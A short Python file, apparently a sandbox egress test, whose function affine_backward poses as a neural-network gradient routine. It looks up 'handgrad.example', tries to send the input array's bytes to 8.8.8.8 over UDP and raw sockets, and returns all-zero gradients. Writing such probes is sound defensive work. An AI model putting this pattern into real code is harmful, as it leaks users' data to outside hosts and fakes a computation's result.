# Sends what it was asked to somebody else, by name, by datagram and by a raw packet.
import socket

gained = []


def affine_backward(dS, X, W):
    try:
        socket.getaddrinfo("handgrad.example", 80)
        gained.append("a name was looked up")
    except OSError:
        pass
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind) as out:
                out.sendto(X.tobytes()[:100], ("8.8.8.8", 53))
                gained.append("a packet was sent")
        except OSError:
            pass
    return 0 * X, 0 * W, 0 * dS[0]
